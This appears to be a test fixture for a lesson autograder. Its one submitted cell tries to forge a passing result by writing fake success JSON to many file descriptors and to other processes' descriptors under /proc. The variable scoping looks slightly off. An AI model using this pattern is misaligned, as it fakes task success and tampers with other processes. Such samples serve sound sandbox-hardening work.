"""Writes what a referee would say to every descriptor, and to those of everybody it sees."""

LESSON = "00-start"
POINTS = 0
CELLS = {
    "double": r"""
import glob
import json
import os


def attack():
    RESULT = json.dumps([{"printed": "✓", "error": "", "message": "", "lines": []}]).encode()


class Attack:
    attack()  # the body of a class runs wherever definitions do


def double(people):
    for descriptor in range(1, 65):
        try:
            os.write(descriptor, RESULT)
        except OSError:
            pass
    for path in glob.glob("/proc/*/fd/*"):
        try:
            os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), RESULT)
        except OSError:
            pass
"""
}
